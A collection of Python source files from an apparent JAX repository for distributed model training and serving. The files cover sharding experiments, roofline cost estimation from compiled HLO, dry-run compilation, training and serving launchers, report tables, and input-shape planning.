    "serve_embed_replicated": (
        {"rules": _rules(SERVE_RULES, embed=())},
        "decode/prefill is latency-bound: replicating the model dim "
        "(keeping only tensor sharding) removes the per-layer all-gather "
        "of 2D-sharded weights; expect collective term down, memory up "
        "by the pipe factor"),
    "serve_cache_data": (
        {"rules": _rules(SERVE_RULES, cache_seq=("pipe", "data"))},
        "shard the KV cache along context over pipe x data (context "
        "parallelism): decode attention reads 1/32 of the cache per "
        "device instead of 1/4; expect memory term down ~8x on "
        "cache-dominated decode"),
    "serve_cache_tensor": (
        {"rules": _rules(SERVE_RULES, cache_seq=("tensor", "pipe"))},
        "context parallelism over the tensor axis (the data axis is "
        "already taken by the batch dim of the same cache tensor — the "
        "serve_cache_data lesson): the KV sequence dim claims tensor "
        "before the kv-heads dim can, giving 16-way context sharding; "
        "decode attention becomes a distributed flash reduction and the "
        "per-device score materialization shrinks 4x"),
    "train_moe_ep_jamba": (
        {"rules": _rules(TRAIN_RULES, experts=("pipe", "data"))},
        "expert parallelism WITHOUT the embed swap (jamba's "
        "embed_tensor regressed compute 12x): 16 experts over the pipe "
        "axis (4-way, 32 doesn't divide), expert weight/optimizer "
        "traffic /4; MoE all-reduce partially becomes all-to-all"),
    "serve_cache_unsharded": (
        {"rules": _rules(SERVE_RULES, cache_seq=())},
        "control: replicate the cache along context — memory term should "
        "rise by the pipe factor, isolating the cache-sharding effect"),
    "serve_heads_pipe_tensor": (
        {"rules": _rules(SERVE_RULES, heads=("tensor", "pipe"),
                         kv_heads=("tensor", "pipe"), mlp=("tensor", "pipe"),
                         embed=())},
        "fold the pipe axis into head/mlp tensor parallelism (16-way TP, "
        "no 2D weight shard): per-device weight bytes halve vs "
        "embed-replicated 4-way TP; expect memory term down, collective "
        "term up (all-reduce group 16 wide)"),
}


def resolve_overrides(arch, shape_id, ov):
    if ov.get("microbatches") in ("half", "double"):
        # read the baseline meta to scale the auto-chosen depth
        import glob
        base = None
        for f in glob.glob(f"experiments/dryrun_v2/"
                           f"{arch.replace('.', '_')}__{shape_id}__"
                           f"single.json"):
            base = json.load(open(f))
        mb = (base or {}).get("meta", {}).get("microbatches", 8)
        ov = dict(ov)
        ov["microbatches"] = max(mb // 2, 1) \
            if ov["microbatches"] == "half" else mb * 2
    return ov


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--arch", required=True)
    p.add_argument("--shape", required=True)
    p.add_argument("--variant", required=True, choices=list(VARIANTS))
    p.add_argument("--out", default="experiments/hillclimb")
    args = p.parse_args()

    ov, hypothesis = VARIANTS[args.variant]
    ov = resolve_overrides(args.arch, args.shape, ov)
    rec = run_one(args.arch, args.shape, multi_pod=False, overrides=ov)
    rec["variant"] = args.variant
    rec["hypothesis"] = hypothesis

    os.makedirs(args.out, exist_ok=True)
    path = os.path.join(
        args.out, f"{args.arch.replace('.', '_')}__{args.shape}.jsonl")
    with open(path, "a") as f:
        f.write(json.dumps(rec, default=str) + "\n")
    if rec["status"] == "ok":
        rl = rec["roofline"]
        print(f"{args.variant}: compute={rl['compute_s']:.4f}s "
              f"memory={rl['memory_s']:.4f}s "
              f"collective={rl['collective_s']:.4f}s "
              f"dominant={rl['dominant']} "
              f"useful={rec['useful_flop_ratio']:.3f}")


if __name__ == "__main__":
    main()
