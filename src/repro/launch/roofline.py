"""Roofline-term extraction from compiled dry-run artifacts.

  compute term    = HLO_FLOPs / (chips x peak FLOP/s)
  memory term     = HLO_bytes / (chips x HBM bandwidth)
  collective term = collective_bytes / (chips x link bandwidth)

``cost_analysis()`` on the SPMD-partitioned module reports *per-device*
flops/bytes, so terms divide by per-chip peaks directly.  Collective bytes
are not in cost_analysis: we parse the optimized HLO and sum result sizes of
every collective op (all-reduce weighted 2x for the ring reduce+broadcast).
"""
from __future__ import annotations

import re
from dataclasses import dataclass

# Trainium trn2 constants (per chip) — from the assignment brief.
PEAK_FLOPS = 667e12        # bf16 FLOP/s
HBM_BW = 1.2e12            # bytes/s
LINK_BW = 46e9             # bytes/s per NeuronLink

_DTYPE_BYTES = {
    "pred": 1, "s8": 1, "u8": 1, "s16": 2, "u16": 2, "s32": 4, "u32": 4,
    "s64": 8, "u64": 8, "f16": 2, "bf16": 2, "f32": 4, "f64": 8,
    "c64": 8, "c128": 16, "f8e4m3fn": 1, "f8e5m2": 1, "s4": 1, "u4": 1,
}

_SHAPE_RE = re.compile(r"([a-z][a-z0-9]*)\[([\d,]*)\]")
_COLL_RE = re.compile(
    r"=\s*((?:\([^)]*\))|(?:[a-z][a-z0-9]*\[[\d,]*\][^ ]*))\s+"
    r"(all-reduce|all-gather|reduce-scatter|all-to-all|collective-permute)"
    r"(?:-start)?\(")

_WEIGHT = {"all-reduce": 2.0, "all-gather": 1.0, "reduce-scatter": 1.0,
           "all-to-all": 1.0, "collective-permute": 1.0}


def _type_bytes(type_str: str) -> int:
    total = 0
    for dtype, dims in _SHAPE_RE.findall(type_str):
        if dtype not in _DTYPE_BYTES:
            continue
        n = 1
        if dims:
            for d in dims.split(","):
                n *= int(d)
        total += n * _DTYPE_BYTES[dtype]
    return total


def collective_bytes(hlo_text: str) -> dict:
    """Per-device collective traffic bytes by op kind (weighted)."""
    by_kind: dict[str, float] = {}
    counts: dict[str, int] = {}
    for m in _COLL_RE.finditer(hlo_text):
        type_str, kind = m.group(1), m.group(2)
        b = _type_bytes(type_str) * _WEIGHT[kind]
        by_kind[kind] = by_kind.get(kind, 0.0) + b
        counts[kind] = counts.get(kind, 0) + 1
    by_kind["total"] = sum(v for k, v in by_kind.items() if k != "total")
    return {"bytes": by_kind, "counts": counts}


@dataclass
class Roofline:
    flops_per_dev: float
    bytes_per_dev: float
    coll_bytes_per_dev: float

    @property
    def compute_s(self) -> float:
        return self.flops_per_dev / PEAK_FLOPS

    @property
    def memory_s(self) -> float:
        return self.bytes_per_dev / HBM_BW

    @property
    def collective_s(self) -> float:
        return self.coll_bytes_per_dev / LINK_BW

    @property
    def dominant(self) -> str:
        terms = {"compute": self.compute_s, "memory": self.memory_s,
                 "collective": self.collective_s}
        return max(terms, key=terms.get)

    def as_dict(self) -> dict:
        return {
            "compute_s": self.compute_s,
            "memory_s": self.memory_s,
            "collective_s": self.collective_s,
            "dominant": self.dominant,
        }


def model_flops(cfg, shape, n_chips: int) -> float:
    """6·N·D (train) / 2·N·D (prefill) / 2·N·B (decode), active params."""
    n = cfg.param_counts()["active"]
    if shape.kind == "train":
        return 6.0 * n * shape.global_batch * shape.seq_len
    if shape.kind == "prefill":
        return 2.0 * n * shape.global_batch * shape.seq_len
    return 2.0 * n * shape.global_batch          # one token per sequence
