import os
os.environ["XLA_FLAGS"] = "--xla_force_host_platform_device_count=512"
"""Multi-pod dry-run: lower + compile every (arch x input-shape x mesh)
combination on placeholder devices, record memory/cost/collective analysis.

The two lines above MUST stay the first statements in this module — jax
locks the device count at first initialization.

Usage:
    PYTHONPATH=src python -m repro.launch.dryrun --arch llama3-405b \
        --shape decode_32k --mesh single
    PYTHONPATH=src python -m repro.launch.dryrun --all --out experiments/dryrun
"""
# (no ``from __future__`` import — the XLA_FLAGS lines must stay first)
import argparse
import json
import time
import traceback

import jax

from repro.configs import get_config, list_archs
from repro.launch.hlo_costs import total_costs
from repro.launch.mesh import make_production_mesh
from repro.launch.roofline import (
    Roofline, collective_bytes, model_flops)
from repro.launch.shapes import INPUT_SHAPES, plan_for
from repro.launch.steps import build_bundle


def run_one(arch: str, shape_id: str, multi_pod: bool,
            overrides: dict | None = None, verbose: bool = True) -> dict:
    cfg0 = get_config(arch)
    shape = INPUT_SHAPES[shape_id]
    mesh_name = "multi" if multi_pod else "single"
    rec: dict = {"arch": arch, "shape": shape_id, "mesh": mesh_name}

    cfg, skip = plan_for(cfg0, shape_id)
    if skip is not None:
        rec["status"] = "skipped"
        rec["reason"] = skip
        return rec

    mesh = make_production_mesh(multi_pod=multi_pod)
    n_chips = mesh.devices.size
    t0 = time.time()
    try:
        with mesh:
            bundle = build_bundle(cfg, mesh, shape, **(overrides or {}))
            lowered = bundle.fn.lower(*bundle.args)
            t_lower = time.time() - t0
            compiled = lowered.compile()
            t_compile = time.time() - t0 - t_lower

            cost = compiled.cost_analysis() or {}
            # cost_analysis counts each lax.scan body ONCE — useless for
            # scan-over-layers models.  hlo_costs re-derives per-device
            # flops/bytes/collectives with while-trip multiplication.
            xla_flops = float(cost.get("flops", 0.0))
            xla_bytes = float(cost.get("bytes accessed", 0.0))
            try:
                mem = compiled.memory_analysis()
                mem_rec = {
                    k: int(getattr(mem, k))
                    for k in ("argument_size_in_bytes",
                              "output_size_in_bytes",
                              "temp_size_in_bytes",
                              "generated_code_size_in_bytes",
                              "alias_size_in_bytes")
                    if hasattr(mem, k)}
            except Exception as e:          # CPU backend may not support it
                mem_rec = {"error": str(e)}
            hlo = compiled.as_text()
            parsed = total_costs(hlo)
            flops = parsed["flops"]
            bytes_acc = parsed["bytes"]
            coll = {"bytes": parsed["coll"],
                    "trips": parsed["trips"],
                    "unscanned": collective_bytes(hlo)["bytes"]}

        rl = Roofline(flops, bytes_acc, coll["bytes"].get("total", 0.0))
        mf = model_flops(cfg, shape, n_chips)
        rec.update(
            status="ok",
            meta=bundle.meta,
            n_chips=n_chips,
            lower_s=round(t_lower, 1),
            compile_s=round(t_compile, 1),
            flops_per_dev=flops,
            bytes_per_dev=bytes_acc,
            xla_flops_per_dev=xla_flops,
            xla_bytes_per_dev=xla_bytes,
            collectives=coll,
            memory=mem_rec,
            roofline=rl.as_dict(),
            model_flops_global=mf,
            model_flops_per_dev=mf / n_chips,
            useful_flop_ratio=(mf / n_chips) / flops if flops else 0.0,
        )
        if verbose:
            print(f"[{arch} {shape_id} {mesh_name}] OK "
                  f"compile={t_compile:.0f}s flops/dev={flops:.3e} "
                  f"bytes/dev={bytes_acc:.3e} "
                  f"coll/dev={coll['bytes'].get('total', 0):.3e} "
                  f"dominant={rl.dominant} "
                  f"useful={rec['useful_flop_ratio']:.2f}")
    except Exception as e:
        rec["status"] = "error"
        rec["error"] = f"{type(e).__name__}: {e}"
        rec["traceback"] = traceback.format_exc()[-2000:]
        if verbose:
            print(f"[{arch} {shape_id} {mesh_name}] FAILED: {rec['error']}")
    return rec


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--arch", default=None)
    p.add_argument("--shape", default=None, choices=[*INPUT_SHAPES, None])
    p.add_argument("--mesh", default="single",
                   choices=["single", "multi", "both"])
    p.add_argument("--all", action="store_true")
    p.add_argument("--out", default="experiments/dryrun")
    p.add_argument("--assigned-only", action="store_true",
                   help="skip the paper's own extra model configs")
    args = p.parse_args()

    archs = list_archs()[:10] if (args.all or args.assigned_only) \
        else list_archs()
    if args.arch:
        archs = [args.arch]
    shapes = [args.shape] if args.shape else list(INPUT_SHAPES)
    meshes = {"single": [False], "multi": [True],
              "both": [False, True]}[args.mesh]

    os.makedirs(args.out, exist_ok=True)
    for arch in archs:
        for shape_id in shapes:
            for mp in meshes:
                mesh_name = "multi" if mp else "single"
                path = os.path.join(
                    args.out,
                    f"{arch.replace('.', '_')}__{shape_id}__{mesh_name}.json")
                if os.path.exists(path):
                    with open(path) as f:
                        old = json.load(f)
                    if old.get("status") in ("ok", "skipped"):
                        print(f"[{arch} {shape_id} {mesh_name}] cached "
                              f"({old['status']})")
                        continue
                rec = run_one(arch, shape_id, mp)
                with open(path, "w") as f:
                    json.dump(rec, f, indent=1, default=str)


if __name__ == "__main__":
    main()
