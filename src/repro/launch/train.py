"""Training launcher: train any assigned architecture on synthetic data.

    PYTHONPATH=src python -m repro.launch.train --arch llama3.2-1b \
        --reduced --steps 200 --seq-len 128 --batch 8

On the CPU container use ``--reduced``; on a real trn2 pod drop it and the
same entrypoint shards over the production mesh.
"""
from __future__ import annotations

import argparse
import time

import jax
import jax.numpy as jnp

from repro.checkpoint.store import restore, save
from repro.configs import get_config, reduced as reduce_cfg
from repro.data.pipeline import SyntheticLM
from repro.models import param_defs
from repro.models.params import materialize
from repro.train.optimizer import AdamWConfig, init_opt_state
from repro.train.trainer import make_train_step


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--arch", required=True)
    p.add_argument("--reduced", action="store_true",
                   help="train the smoke-scale family member (CPU)")
    p.add_argument("--steps", type=int, default=200)
    p.add_argument("--seq-len", type=int, default=128)
    p.add_argument("--batch", type=int, default=8)
    p.add_argument("--microbatches", type=int, default=1)
    p.add_argument("--lr", type=float, default=1e-3)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--ckpt", default=None, help="save/restore path")
    p.add_argument("--log-every", type=int, default=10)
    args = p.parse_args()

    cfg = get_config(args.arch)
    if args.reduced:
        cfg = reduce_cfg(cfg)
    print(f"arch={cfg.name} family={cfg.family} "
          f"params={cfg.param_counts()['total'] / 1e6:.1f}M "
          f"(active {cfg.param_counts()['active'] / 1e6:.1f}M)")

    params = materialize(param_defs(cfg), jax.random.key(args.seed))
    opt = init_opt_state(params)
    start_step = 0
    if args.ckpt:
        try:
            (params, opt), start_step = restore(args.ckpt, (params, opt))
            print(f"restored checkpoint at step {start_step}")
        except FileNotFoundError:
            pass

    opt_cfg = AdamWConfig(lr=args.lr, warmup_steps=max(args.steps // 20, 1),
                          total_steps=args.steps)
    step_fn = jax.jit(make_train_step(cfg, opt_cfg,
                                      microbatches=args.microbatches))
    data = SyntheticLM(vocab_size=cfg.vocab_size, seq_len=args.seq_len,
                       batch_size=args.batch, seed=args.seed)
    it = data.batches()

    t0 = time.time()
    tokens_done = 0
    for i in range(start_step, args.steps):
        batch = next(it)
        if args.microbatches > 1:
            b = batch["tokens"]
            batch = {"tokens": b.reshape(args.microbatches, -1, b.shape[1])}
        params, opt, stats = step_fn(params, opt, batch)
        tokens_done += args.batch * args.seq_len
        if i % args.log_every == 0 or i == args.steps - 1:
            dt = time.time() - t0
            print(f"step {i:5d}  loss {float(stats['loss']):7.4f}  "
                  f"gnorm {float(stats.get('grad_norm', 0.0)):6.2f}  "
                  f"tok/s {tokens_done / max(dt, 1e-9):8.0f}")
    if args.ckpt:
        save(args.ckpt, (params, opt), step=args.steps)
        print(f"saved checkpoint to {args.ckpt}")


if __name__ == "__main__":
    main()
