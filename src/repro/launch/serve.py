"""Serving launcher — what a Chat AI Slurm service job executes.

    PYTHONPATH=src python -m repro.launch.serve --arch llama3.2-1b \
        --reduced --port 28123 --requests 16

This is the entrypoint the rendered sbatch scripts invoke.  In this
repository it boots the JAX engine, announces (host, port) the way the
cloud interface script expects, and serves a demonstration batch of
requests (an in-process stand-in for the HTTP server loop; the request
framing matches ``CloudInterfaceScript``).
"""
from __future__ import annotations

import argparse
import json
import os
import socket
import sys
import time


def _ensure_tp_devices() -> None:
    """``--tp N`` needs N visible devices *before* jax initializes.  On
    GPU nodes the forced-host-device flag is inert (it only affects the
    CPU platform); on CPU-only hosts it conjures N host devices — the
    dryrun.py pattern — so ``--tp 2`` works anywhere."""
    tp = 0
    for i, a in enumerate(sys.argv):
        if a == "--tp" and i + 1 < len(sys.argv):
            tp = int(sys.argv[i + 1])
        elif a.startswith("--tp="):
            tp = int(a.split("=", 1)[1])
    if tp > 1 and "xla_force_host_platform_device_count" not in \
            os.environ.get("XLA_FLAGS", ""):
        os.environ["XLA_FLAGS"] = (
            os.environ.get("XLA_FLAGS", "")
            + f" --xla_force_host_platform_device_count={tp}").strip()


_ensure_tp_devices()

import jax  # noqa: E402
import numpy as np  # noqa: E402

from repro.configs import get_config, reduced as reduce_cfg  # noqa: E402
from repro.launch.mesh import make_tp_mesh  # noqa: E402
from repro.models import param_defs  # noqa: E402
from repro.models.params import materialize  # noqa: E402
from repro.serving.engine import Engine  # noqa: E402
from repro.serving.sampling import SamplingParams  # noqa: E402


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--arch", required=True)
    p.add_argument("--reduced", action="store_true")
    p.add_argument("--host", default="0.0.0.0")
    p.add_argument("--port", type=int, default=0)
    p.add_argument("--max-batch-size", type=int, default=8)
    p.add_argument("--max-model-len", type=int, default=512)
    p.add_argument("--kv-block-size", type=int, default=16)
    p.add_argument("--tp", type=int, default=1, metavar="N",
                   help="tensor-parallel degree: shard weights and paged "
                        "KV pools over the first N devices of a 'tensor' "
                        "mesh.  Token streams are bit-identical to --tp 1 "
                        "(DESIGN.md §Tensor-parallel serving); per-device "
                        "resident KV drops to ~1/N")
    p.add_argument("--kv-dtype", default=None,
                   choices=["bf16", "fp8_e4m3", "int8"],
                   help="storage dtype for paged KV pools (quantize-on-"
                        "scatter with per-row scales; fp8/int8 roughly "
                        "double resident blocks).  Default: the model "
                        "activation dtype.  Non-paged leaves (SSM state, "
                        "encoder KV) always stay full precision")
    p.add_argument("--no-prefix-cache", action="store_true",
                   help="disable automatic prefix caching")
    p.add_argument("--prefill-chunk", type=int, default=0,
                   help="chunked prefill size in tokens (0 = one-shot)")
    p.add_argument("--no-fast-path", action="store_true",
                   help="disable the jitted/donated engine hot path and "
                        "use the eager reference step loop")
    p.add_argument("--swap-space", type=float, default=0.0, metavar="GIB",
                   help="host (CPU) KV swap space in GiB; preemption "
                        "victims offload their non-cached blocks there "
                        "and resume without recompute (0 = recompute "
                        "preemption, the vLLM default policy)")
    p.add_argument("--spec-draft", type=int, default=0, metavar="K",
                   help="self-speculative decoding: verify up to K "
                        "prompt-lookup draft tokens per sequence per "
                        "decode dispatch (0 = off); outputs are "
                        "bit-identical either way — verification is "
                        "exact — only the latency profile changes")
    p.add_argument("--n", type=int, default=1, metavar="N",
                   help="parallel samples per demo request (a sequence "
                        "group: the prompt is prefilled once, N sequences "
                        "fork off it and share its KV blocks)")
    p.add_argument("--temperature", type=float, default=0.0,
                   help="sampling temperature for the demo requests "
                        "(0 = greedy; n>1 greedy produces n identical "
                        "completions)")
    p.add_argument("--request-seed", type=int, default=None,
                   help="per-request PRNG seed: makes sampled outputs "
                        "(including every sequence of an --n group) "
                        "reproducible across runs and engines")
    p.add_argument("--emit-cache-keys", action="store_true",
                   help="also print the resident prefix-cache block keys "
                        "(what a heartbeat publishes to the scheduler's "
                        "cross-instance prefix index)")
    p.add_argument("--stream", action="store_true",
                   help="attach a per-request token sink (the mechanism "
                        "behind SSE streaming) and report time-to-first-"
                        "byte plus chunk counts in the served event")
    p.add_argument("--requests", type=int, default=8,
                   help="demo requests to serve before exiting")
    p.add_argument("--seed", type=int, default=0)
    args = p.parse_args()

    cfg = get_config(args.arch)
    if args.reduced:
        cfg = reduce_cfg(cfg)

    t0 = time.time()
    params = materialize(param_defs(cfg), jax.random.key(args.seed))
    mesh = make_tp_mesh(args.tp) if args.tp > 1 else None
    engine = Engine(cfg, params, max_num_seqs=args.max_batch_size,
                    max_model_len=args.max_model_len,
                    block_size=args.kv_block_size,
                    enable_prefix_caching=not args.no_prefix_cache,
                    prefill_chunk_size=args.prefill_chunk or None,
                    fast_path=not args.no_fast_path,
                    swap_space_bytes=int(args.swap_space * (1 << 30)),
                    spec_draft_len=args.spec_draft,
                    kv_dtype=args.kv_dtype,
                    mesh=mesh, tp=args.tp if args.tp > 1 else None)
    if args.spec_draft and not engine.spec_draft_len:
        print(json.dumps({
            "event": "warning",
            "message": "--spec-draft ignored (needs the jitted fast "
                       "path); decoding one token per dispatch"
        }), flush=True)
    caps = engine.capabilities()
    if args.swap_space and not engine.swap_enabled:
        # don't let a misconfiguration no-op silently: report the
        # family-specific reason the cache contract disables swap
        print(json.dumps({
            "event": "warning",
            "message": "--swap-space ignored: "
                       + caps["features"]["swap"]["reason"]
                       + "; preemption will recompute"
        }), flush=True)
    # per-family capability line: what this model family's cache contract
    # enables (paged pools, swap, fork, speculation, prefix caching) and
    # — for everything off — the leaf-level reason why
    print(json.dumps({
        "event": "capabilities",
        "paged": caps["paged"],
        "pool_only": caps["pool_only"],
        "fast_path": caps["fast_path"],
        "tp": caps["tp"],
        "kv_dtype": caps["kv_dtype"],
        "kv_block_bytes": engine.kv_block_bytes(),
        "cache_leaves": caps["leaves"],
        "features": caps["features"],
    }), flush=True)
    # the real job writes "<host> <port>" for the scheduler's routing table
    print(f"{socket.gethostname()} {args.port}", flush=True)
    print(json.dumps({"event": "ready", "arch": cfg.name,
                      "load_s": round(time.time() - t0, 1)}), flush=True)

    rng = np.random.RandomState(args.seed)
    rids = [engine.submit(
        rng.randint(1, cfg.vocab_size, rng.randint(4, 32)),
        SamplingParams(max_new_tokens=int(rng.randint(8, 48)),
                       temperature=args.temperature,
                       n=args.n, best_of=args.n, seed=args.request_seed))
        for _ in range(args.requests)]
    t1 = time.time()
    first_chunk: dict[int, float] = {}
    chunks = 0
    if args.stream:
        def mk_sink(rid: int):
            def sink(child_idx: int, token: int) -> None:
                nonlocal chunks
                chunks += 1
                first_chunk.setdefault(rid, time.time() - t1)
            return sink
        for r in rids:
            engine.add_sink(r, mk_sink(r))
    toks = 0
    while engine.has_work():
        toks += engine.step()
    dt = time.time() - t1
    done = sum(engine.group_of(r).finished for r in rids)
    cache = engine.prefix_cache_stats()
    swap = engine.swap_stats()
    spec = engine.spec_stats()
    print(json.dumps({
        "event": "served", "requests": done, "decode_tokens": toks,
        "kv_dtype": caps["kv_dtype"],
        "enabled_features": sorted(
            k for k, v in caps["features"].items() if v["enabled"]),
        "spec_drafted_tokens": spec["drafted_tokens"],
        "spec_accepted_tokens": spec["accepted_tokens"],
        "spec_acceptance_rate": round(spec["acceptance_rate"], 3),
        "tok_per_s": round(toks / max(dt, 1e-9), 1),
        "kv_utilization": round(engine.bm.utilization(), 3),
        "preemptions": swap["preemptions"],
        "swap_out_blocks": swap["swap_out_blocks"],
        "swap_in_blocks": swap["swap_in_blocks"],
        "swap_fallbacks": swap["fallbacks"],
        "swap_host_blocks": swap["host_blocks"],
        "prefix_cache_hit_tokens": cache["hit_tokens"],
        "prefill_tokens_computed": cache["prefill_tokens_computed"],
        "cached_block_keys": cache["registered_keys"],
        "sequence_forks": cache["forks"],
        **({"stream_chunks": chunks,
            "ttfb_s": round(sum(first_chunk.values())
                            / max(len(first_chunk), 1), 3)}
           if args.stream else {}),
    }), flush=True)
    if args.emit_cache_keys:
        # the heartbeat payload an external index publisher would ship
        print(json.dumps({"event": "cache_keys",
                          "keys": engine.cached_block_keys()}), flush=True)


if __name__ == "__main__":
    main()
