"""Render EXPERIMENTS.md §Dry-run / §Roofline tables from the sweep JSONs.

    PYTHONPATH=src python -m repro.launch.report --dir experiments/dryrun
"""
from __future__ import annotations

import argparse
import glob
import json
import os


def load(dirname: str) -> list[dict]:
    recs = []
    for f in sorted(glob.glob(os.path.join(dirname, "*.json"))):
        with open(f) as fh:
            recs.append(json.load(fh))
    return recs


def fmt_s(x: float) -> str:
    if x == 0:
        return "0"
    if x < 1e-3:
        return f"{x * 1e6:.0f}µs"
    if x < 1:
        return f"{x * 1e3:.1f}ms"
    return f"{x:.2f}s"


def roofline_table(recs: list[dict], mesh: str = "single") -> str:
    """§Roofline: per (arch × shape), three terms + dominant + usefulness."""
    rows = ["| arch | shape | compute | memory | collective | dominant | "
            "model TFLOPs/dev | useful ratio |",
            "|---|---|---|---|---|---|---|---|"]
    for r in recs:
        if r.get("mesh") != mesh:
            continue
        if r["status"] == "skipped":
            rows.append(f"| {r['arch']} | {r['shape']} | — | — | — | "
                        f"skipped: {r['reason'][:48]}… | — | — |")
            continue
        if r["status"] != "ok":
            rows.append(f"| {r['arch']} | {r['shape']} | ERROR | | | | | |")
            continue
        rl = r["roofline"]
        rows.append(
            f"| {r['arch']} | {r['shape']} | {fmt_s(rl['compute_s'])} | "
            f"{fmt_s(rl['memory_s'])} | {fmt_s(rl['collective_s'])} | "
            f"**{rl['dominant']}** | "
            f"{r['model_flops_per_dev'] / 1e12:.2f} | "
            f"{r['useful_flop_ratio']:.2f} |")
    return "\n".join(rows)


def dryrun_table(recs: list[dict]) -> str:
    """§Dry-run: lower+compile status, memory, collectives per combo."""
    rows = ["| arch | shape | mesh | status | compile | bytes/dev | "
            "coll bytes/dev | top collective |",
            "|---|---|---|---|---|---|---|---|"]
    for r in recs:
        if r["status"] == "skipped":
            rows.append(f"| {r['arch']} | {r['shape']} | {r['mesh']} | "
                        f"skip | — | — | — | — |")
            continue
        if r["status"] != "ok":
            rows.append(f"| {r['arch']} | {r['shape']} | {r['mesh']} | "
                        f"ERROR | | | | |")
            continue
        coll = r["collectives"]["bytes"]
        top = max(((k, v) for k, v in coll.items() if k != "total"),
                  key=lambda kv: kv[1], default=("-", 0))
        rows.append(
            f"| {r['arch']} | {r['shape']} | {r['mesh']} | ok | "
            f"{r['compile_s']:.0f}s | {r['bytes_per_dev']:.2e} | "
            f"{coll.get('total', 0):.2e} | {top[0]} |")
    return "\n".join(rows)


def pick_hillclimb(recs: list[dict]) -> list[dict]:
    """The three §Perf targets: worst useful-ratio (excluding the
    degenerate batch-1 long_500k decodes, whose ratio is ~0 by
    construction), most collective-bound, most paper-representative
    (decode shape of the paper's flagship served model)."""
    ok = [r for r in recs if r["status"] == "ok" and r["mesh"] == "single"]
    non_degen = [r for r in ok if r["shape"] != "long_500k"]
    worst = min(non_degen, key=lambda r: r["useful_flop_ratio"] or 9e9)
    coll = max(ok, key=lambda r: r["roofline"]["collective_s"]
               / max(sum(r["roofline"][k] for k in
                         ("compute_s", "memory_s", "collective_s")), 1e-12))
    rep = [r for r in ok if r["shape"] == "decode_32k"
           and r["arch"] in ("llama3-70b", "mixtral-8x7b", "qwen3-14b")]
    return [worst, coll, rep[0] if rep else ok[0]]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--dir", default="experiments/dryrun")
    ap.add_argument("--section", default="all",
                    choices=["all", "dryrun", "roofline", "picks"])
    args = ap.parse_args()
    recs = load(args.dir)
    if args.section in ("all", "dryrun"):
        print("## §Dry-run\n")
        print(dryrun_table(recs))
        print()
    if args.section in ("all", "roofline"):
        print("## §Roofline (single pod, 128 chips)\n")
        print(roofline_table(recs))
        print()
    if args.section in ("all", "picks"):
        print("## Hillclimb picks\n")
        for r in pick_hillclimb(recs):
            print(f"- {r['arch']} × {r['shape']}: dominant="
                  f"{r['roofline']['dominant']} useful="
                  f"{r['useful_flop_ratio']:.2f}")


if __name__ == "__main__":
    main()
