"""Assigned input shapes + per-(arch,shape) planning.

``plan_for(cfg, shape_id)`` resolves the config variant actually lowered
(e.g. sliding-window attention for dense archs at 500k context) or a
documented skip reason (DESIGN.md §Arch-applicability).
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.models.config import ModelConfig


@dataclass(frozen=True)
class InputShape:
    name: str
    kind: str          # train | prefill | decode
    seq_len: int
    global_batch: int


INPUT_SHAPES = {
    "train_4k":    InputShape("train_4k", "train", 4_096, 256),
    "prefill_32k": InputShape("prefill_32k", "prefill", 32_768, 32),
    "decode_32k":  InputShape("decode_32k", "decode", 32_768, 128),
    "long_500k":   InputShape("long_500k", "decode", 524_288, 1),
}

# long_500k policy (DESIGN.md §Arch-applicability):
#   SSM/hybrid run natively (jamba's attn layers get its 4k effective window);
#   small/mid dense + llama4 run with an 8k sliding-window variant;
#   full-attention-only giants and enc-dec/VLM are skipped.
_LONG_WINDOW = {
    "mamba2-1.3b": None,            # attention-free, runs as-is
    "jamba-1.5-large-398b": 4096,
    "llama3.2-1b": 8192,
    "qwen3-14b": 8192,
    "stablelm-1.6b": 8192,
    "llama4-scout-17b-a16e": 8192,  # native chunked attention ~ sliding window
}

_LONG_SKIP = {
    "llama3-405b": "full-attention dense at 500k context out of scope "
                   "(no sliding-window variant published for this config)",
    "deepseek-v2-236b": "MLA latent cache is O(S); 500k full-attention MLA "
                        "skipped per DESIGN.md",
    "qwen2-vl-7b": "M-RoPE full attention; no sub-quadratic variant",
    "whisper-medium": "enc-dec; decoder context structurally <= 32k here",
    "llama3-70b": "paper-model config, full attention at 500k out of scope",
    "mixtral_8x7b": "full attention at 500k out of scope",
    "mixtral-8x7b": "full attention at 500k out of scope",
}


def plan_for(cfg: ModelConfig, shape_id: str
             ) -> tuple[Optional[ModelConfig], Optional[str]]:
    """Returns (config_variant, skip_reason). Exactly one is None."""
    shape = INPUT_SHAPES[shape_id]
    if shape_id == "long_500k":
        if cfg.name in _LONG_SKIP:
            return None, _LONG_SKIP[cfg.name]
        if cfg.is_attention_free:
            return cfg, None
        window = _LONG_WINDOW.get(cfg.name, 8192)
        return cfg.with_(sliding_window=window), None
    if shape.kind == "train" and cfg.family == "audio":
        # enc-dec training uses (frames, decoder tokens); supported as-is
        return cfg, None
    return cfg, None


def auto_microbatches(cfg: ModelConfig, batch_shards: int,
                      global_batch: int, seq_len: int,
                      budget_bytes: float = 16e9) -> int:
    """Pick gradient-accumulation depth so the per-device remat carry
    (layer-boundary activations, bf16) fits the budget."""
    per_seq = seq_len * cfg.d_model * 2 * cfg.num_layers
    m = 1
    local = global_batch // batch_shards
    while m < local and (local / m) * per_seq > budget_bytes:
        m *= 2
    # microbatch count must divide global batch and keep >=1 seq per shard
    while global_batch % m or (global_batch // m) % batch_shards:
        m //= 2
    return max(m, 1)
