"""Training step builder: loss, grad accumulation, remat, sharded jit.

``make_train_step(cfg, ...)`` returns a jittable
``(params, opt_state, batch) -> (params, opt_state, stats)`` with:
  * next-token cross entropy (chunked over the sequence — the [B,S,V]
    logits tensor never materializes),
  * MoE load-balance aux loss,
  * gradient accumulation via ``lax.scan`` over microbatches,
  * activation remat on the layer scan (policy inside ``forward``).
"""
from __future__ import annotations

from functools import partial
from typing import Optional

import jax
import jax.numpy as jnp

from repro.models import chunked_xent, forward
from repro.models.config import ModelConfig
from repro.train.optimizer import AdamWConfig, OptState, adamw_update


def loss_fn(cfg: ModelConfig, params, tokens, extras=None):
    """Next-token LM loss on a microbatch.  tokens [b, S+1]."""
    inp, labels = tokens[:, :-1], tokens[:, 1:]
